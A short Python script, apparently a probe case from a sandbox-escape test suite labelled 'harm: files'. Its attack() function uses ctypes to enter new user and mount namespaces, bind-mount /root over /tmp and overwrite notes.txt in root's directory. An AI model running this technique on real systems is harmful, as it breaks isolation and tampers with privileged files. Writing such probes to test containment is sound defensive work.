# harm: files
import ctypes

libc = ctypes.CDLL(None)


def attack() -> int:
    if libc.unshare(0x20000) != 0 and libc.unshare(0x10020000) != 0:
        return 1
    libc.mount(b"/root", b"/tmp", None, 0x1000, None)
    with open("/tmp/notes.txt", "w") as notes:
        return notes.write("mine")
